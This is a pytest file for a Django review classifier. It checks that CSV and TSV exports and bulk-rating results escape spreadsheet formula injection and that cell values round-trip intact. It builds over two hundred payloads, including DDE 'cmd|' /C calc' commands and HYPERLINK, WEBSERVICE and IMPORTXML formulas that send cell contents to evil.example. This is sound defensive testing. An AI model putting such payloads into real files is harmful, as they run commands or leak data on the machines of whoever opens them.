"""Two hundred formulas leave the site as text, and come back as they were."""

import csv
import io
import re
from collections.abc import Callable
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from pytest_django import Settings

from classifier.bulk import delimited_writer
from classifier.bulk.tables import open_table
from classifier.bulk_jobs import work
from classifier.models import Prediction, Verdict
from classifier.review.exporting import export_verdicts
from classifier.review.importing import Columns, import_verdicts
from classifier.texts import clean_review_text
from tests.factories import make_prediction, make_verdict

pytestmark = pytest.mark.django_db

# What spreadsheets take for the beginning of a formula (ASVS 1.2.10), and what some strip off it.
BEGINNINGS = (
    *"=+-@\t\r\n",
    "\uff1d",
    "\uff0b",
    "\uff0d",
    "\uff20",
    "'=",
    "''+",
    "'\t=",
    "=-",
    "@+",
    "-'=",
)
BODIES = (
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://evil.example?"&A1,"click")',
    'WEBSERVICE("http://evil.example/"&A1)',
    'IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
    'DDE("cmd";"/C calc";"x")',
    "SUM(1+1)*cmd|' /C calc'!A0",
    "A1,1;2\t3",
    '"quoted", and ""twice""',
    "1e5x",
    "2;=1+1",
    "\n=1+1",
    " =1+1",
)
PAYLOADS = [beginning + body for beginning in BEGINNINGS for body in BODIES]
NUMBER = re.compile(r"[+-]\d+([.,]\d+)?([eE][+-]?\d+)?")


def formulas(content: bytes, delimiter: str = ",") -> list[str]:
    """The cells that a spreadsheet would run."""
    rows = csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=delimiter)
    return [
        cell
        for row in rows
        for cell in row
        if cell[:1] in tuple("=+-@\t\r\n\0\uff1d\uff0b\uff0d\uff20")
        and cell
        and not NUMBER.fullmatch(cell)
    ]


def test_there_are_two_hundred() -> None:
    assert len(set(PAYLOADS)) >= 200


@pytest.fixture
def notes() -> dict[str, str]:
    """Verdicts whose notes and texts are formulas; each note by its prediction."""
    found = {}
    for number, payload in enumerate(PAYLOADS):
        prediction = make_prediction(clean_review_text(f"{payload} {number}", max_chars=1000))
        make_verdict(prediction, note=payload)
        found[str(prediction.pk)] = payload
    return found


@pytest.mark.parametrize(("name", "delimiter"), [("verdicts.csv", ","), ("verdicts.tsv", "\t")])
def test_verdicts_leave_and_come_back(
    name: str,
    delimiter: str,
    notes: dict[str, str],
    tmp_path: Path,
    record_property: Callable[[str, object], None],
) -> None:
    record_property("tried", len(PAYLOADS))
    file = tmp_path / name
    assert export_verdicts(file, Verdict.objects.all()) == len(PAYLOADS)

    assert formulas(file.read_bytes(), delimiter) == []
    with open_table(file) as table:
        rows = [row.cells for row in table.rows()]
    assert {row["prediction"]: row["note"] for row in rows} == notes
    texts = Prediction.objects.values_list("pk", "text")
    assert {row["prediction"]: row["text"] for row in rows} == {str(pk): text for pk, text in texts}

    Verdict.objects.all().delete()
    done = import_verdicts(file, columns=Columns(), reviewer=None)
    assert done.bad == 0, done.problems
    assert dict(_notes()) == notes


def _notes() -> list[tuple[str, str]]:
    found = Verdict.objects.values_list("prediction_id", "note")
    return [(str(pk), note) for pk, note in found]


def test_an_export_that_escapes_nothing_would_be_noticed(
    notes: dict[str, str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(delimited_writer, "escape", lambda cell: cell)
    file = tmp_path / "verdicts.csv"
    export_verdicts(file, Verdict.objects.all())
    assert len(formulas(file.read_bytes())) > 200


def test_a_rated_file_has_the_cells_that_were_sent(
    client: Client,
    served_graph: Path,
    settings: Settings,
    record_property: Callable[[str, object], None],
) -> None:
    record_property("tried", len(PAYLOADS))
    settings.JOB_HEARTBEAT_SECONDS = 60.0
    sent = io.StringIO(newline="")
    writer = csv.writer(sent)
    writer.writerow(["review", "other"])
    writer.writerows([f"A good film {payload}", payload] for payload in PAYLOADS)
    with open_table(io.BytesIO(sent.getvalue().encode()), "reviews.csv") as table:
        read = [row.cells["other"] for row in table.rows()]
    upload = SimpleUploadedFile("reviews.csv", sent.getvalue().encode())
    chosen = client.post("/bulk", {"file": upload})
    done = client.post(chosen["Location"], {"text_column": 0, "keep_texts": "no"})
    work.work()

    result = b"".join(client.get(f"{done['Location']}/result").streaming_content)  # type: ignore[attr-defined]

    assert formulas(result) == []
    with open_table(io.BytesIO(result), "reviews.csv") as table:
        rows = [row.cells for row in table.rows()]
    assert [row["other"] for row in rows] == read
    assert all(row["rating"] for row in rows)
